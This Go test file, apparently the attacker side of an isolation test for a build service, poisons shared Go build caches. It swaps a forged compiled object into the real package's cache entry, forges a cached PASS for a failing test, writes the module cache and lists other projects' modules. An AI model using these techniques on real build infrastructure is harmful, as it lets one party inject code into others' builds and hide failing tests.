// Package evil is the attacker: a test a pull request adds, run by
// --target test. It plants, in every build cache it can write:
//
//  1. an object file for example.com/poisoned/greet that returns "PWNED",
//     under the action id of the real greet as the image compile computes
//     it (go build -trimpath, CGO_ENABLED=0, linux/amd64);
//  2. a cached PASS for example.com/poisoned/mustfail, whose test fails.
//
// and tries to write the module cache and to list other projects' modules.
// For each cache it checks its own work: a build from that cache must link
// the planted greet, and go test must report the planted PASS. It then
// fails with the whole report, so that the build output shows it.
package evil

import (
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"runtime"
	"strings"
	"testing"
	"time"
)

func TestPlant(t *testing.T) {
	root, _ := filepath.Abs("..")
	var report []string
	say := func(format string, args ...any) { report = append(report, fmt.Sprintf(format, args...)) }
	for _, dir := range caches() {
		if err := plantObject(root, dir, t.TempDir()); err != nil {
			say("PLANT-OBJECT %s: failed: %v", dir, err)
		} else {
			out, err := buildFrom(root, dir, t.TempDir())
			say("PLANT-OBJECT %s: planted; a build from this cache prints %q (%v)", dir, out, err)
		}
		if err := plantPass(root, dir); err != nil {
			say("PLANT-PASS %s: failed: %v", dir, err)
		} else {
			out, _ := goCmd(root, dir, goTest, nil, "test", "-json", "./mustfail")
			say("PLANT-PASS %s: planted; go test from this cache says cached pass: %v", dir, strings.Contains(out, `"Action":"pass","Package":"example.com/poisoned/mustfail"`) && strings.Contains(out, "(cached)"))
		}
	}
	mc := os.Getenv("GOMODCACHE")
	if err := os.WriteFile(filepath.Join(mc, "planted.txt"), []byte("x"), 0o644); err != nil {
		say("PLANT-MODULE %s: failed: %v", mc, err)
	} else {
		say("PLANT-MODULE %s: planted", mc)
	}
	var mods []string
	filepath.WalkDir(mc, func(p string, d os.DirEntry, err error) error {
		if err == nil && d.IsDir() && strings.Contains(d.Name(), "@") {
			rel, _ := filepath.Rel(mc, p)
			mods = append(mods, rel)
			return filepath.SkipDir
		}
		return nil
	})
	say("MODULES %s: %s", mc, strings.Join(mods, " "))
	t.Errorf("the attacker's report:\n%s", strings.Join(report, "\n"))
}

// caches are the directories that look like a Go build cache (a README
// from the go command): GOCACHE and whatever else is mounted.
func caches() []string {
	var out []string
	seen := map[string]bool{}
	add := func(d string) {
		if d == "" || seen[d] {
			return
		}
		if dt, err := os.ReadFile(filepath.Join(d, "README")); err == nil && bytes.Contains(dt, []byte("Go build system")) {
			seen[d] = true
			out = append(out, d)
		}
	}
	add(os.Getenv("GOCACHE"))
	for _, base := range []string{"/gopherfile", "/tmp"} {
		ents, _ := os.ReadDir(base)
		for _, e := range ents {
			add(filepath.Join(base, e.Name()))
		}
	}
	return out
}

// goCmd runs the go command in dir with GOCACHE=cache, without the step's
// GOCACHEPROG, with the image compile's settings (goCompile) or the test
// step's own (goTest).
func goCmd(dir, cache string, compile bool, extra []string, args ...string) (string, error) {
	cmd := exec.Command("go", args...)
	cmd.Dir = dir
	for _, kv := range os.Environ() {
		k, _, _ := strings.Cut(kv, "=")
		if k == "GOCACHEPROG" || k == "GOCACHE" || k == "GODEBUG" || (compile && k == "GOFLAGS") {
			continue
		}
		cmd.Env = append(cmd.Env, kv)
	}
	cmd.Env = append(cmd.Env, "GOCACHE="+cache)
	if compile {
		cmd.Env = append(cmd.Env, "CGO_ENABLED=0", "GOOS=linux", "GOARCH=amd64", "GOPROXY=off", "GOFLAGS=-mod=readonly -buildvcs=false")
	}
	cmd.Env = append(cmd.Env, extra...)
	var buf bytes.Buffer
	cmd.Stdout, cmd.Stderr = &buf, &buf
	err := cmd.Run()
	return buf.String(), err
}

const (
	goCompile = true
	goTest    = false
)

// plantObject replaces the output of the real greet's compile action in
// cache with an evil greet's.
func plantObject(root, cache, tmp string) error {
	real, err := exportFile(root, cache)
	if err != nil {
		return err
	}
	evilRoot := filepath.Join(tmp, "src")
	for _, f := range []string{"go.mod", "main.go", "greet/greet.go"} {
		dt, err := os.ReadFile(filepath.Join(root, f))
		if err != nil {
			return err
		}
		if f == "greet/greet.go" {
			dt = bytes.Replace(dt, []byte(`"hello, trusted"`), []byte(`"PWNED"`), 1)
		}
		os.MkdirAll(filepath.Dir(filepath.Join(evilRoot, f)), 0o755)
		os.WriteFile(filepath.Join(evilRoot, f), dt, 0o644)
	}
	evil, err := exportFile(evilRoot, filepath.Join(tmp, "cache"))
	if err != nil {
		return err
	}
	realOut := strings.TrimSuffix(filepath.Base(real), "-d")
	body, err := os.ReadFile(evil)
	if err != nil {
		return err
	}
	evilOut := strings.TrimSuffix(filepath.Base(evil), "-d")
	entries, _ := filepath.Glob(filepath.Join(cache, "*", "*-a"))
	n := 0
	for _, e := range entries {
		dt, err := os.ReadFile(e)
		if err != nil || !bytes.Contains(dt, []byte(" "+realOut+" ")) {
			continue
		}
		fields := strings.Fields(string(dt))
		if err := os.WriteFile(filepath.Join(cache, evilOut[:2], evilOut+"-d"), body, 0o644); err != nil {
			return err
		}
		line := fmt.Sprintf("v1 %s %s %20d %20d\n", fields[1], evilOut, len(body), time.Now().UnixNano())
		if err := os.WriteFile(e, []byte(line), 0o644); err != nil {
			return err
		}
		n++
	}
	if n == 0 {
		return fmt.Errorf("no action entry in %s has the output %s", cache, realOut)
	}
	return nil
}

// exportFile compiles greet as the image compile does and returns its
// output file in cache.
func exportFile(root, cache string) (string, error) {
	out, err := goCmd(root, cache, goCompile, nil, "list", "-trimpath", "-export", "-f", "{{.Export}}", "./greet")
	if err != nil {
		return "", fmt.Errorf("go list -export: %v: %s", err, out)
	}
	p := strings.TrimSpace(out)
	if !strings.HasPrefix(p, cache) {
		return "", fmt.Errorf("the export data is not in the cache: %s", p)
	}
	return p, nil
}

// buildFrom builds the program as the image compile does, from cache, and
// runs it.
func buildFrom(root, cache, tmp string) (string, error) {
	bin := filepath.Join(tmp, "poisoned")
	if out, err := goCmd(root, cache, goCompile, nil, "build", "-trimpath", "-o", bin, "."); err != nil {
		return out, err
	}
	out, err := exec.Command(bin).CombinedOutput()
	return strings.TrimSpace(string(out)), err
}

// plantPass writes the entries of a passing run of mustfail's test, as the
// go command computes their keys (cmd/go/internal/test: the test ID, then
// the test inputs ID of an empty test log with GODEBUG unset).
func plantPass(root, cache string) error {
	out, _ := goCmd(root, cache, goTest, []string{"GODEBUG=gocachetest=1"}, "test", "-json", "./mustfail")
	m := regexp.MustCompile(`testcache: example.com/poisoned/mustfail: test ID [0-9a-f]+ => ([0-9a-f]{64})`).FindStringSubmatch(out)
	if m == nil {
		return fmt.Errorf("no test ID in the go command's output: %s", out)
	}
	testID, _ := hex.DecodeString(m[1])
	salt := runtime.Version()
	if i := strings.Index(salt, " X:"); i >= 0 {
		salt = salt[:i]
	}
	getenv := sha256.Sum256([]byte(salt + "\x00"))
	inputs := sha256.Sum256([]byte(salt + fmt.Sprintf("env GODEBUG %x\n", getenv)))
	key := sha256.Sum256(append(append([]byte("subkey:"), testID...), []byte(fmt.Sprintf("inputs:%x", inputs))...))
	if err := putEntry(cache, testID, []byte("# test log\n")); err != nil {
		return err
	}
	pass := "\x16=== RUN   TestMustFail\n\x16--- PASS: TestMustFail (0.00s)\n\x16PASS\nok  \texample.com/poisoned/mustfail\t0.004s\n"
	return putEntry(cache, key[:], []byte(pass))
}

// putEntry writes an entry in the go command's on-disk layout.
func putEntry(cache string, id, body []byte) error {
	out := sha256.Sum256(body)
	o := hex.EncodeToString(out[:])
	if err := os.WriteFile(filepath.Join(cache, o[:2], o+"-d"), body, 0o644); err != nil {
		return err
	}
	a := hex.EncodeToString(id)
	return os.WriteFile(filepath.Join(cache, a[:2], a+"-a"), []byte(fmt.Sprintf("v1 %s %s %20d %20d\n", a, o, len(body), time.Now().UnixNano())), 0o644)
}
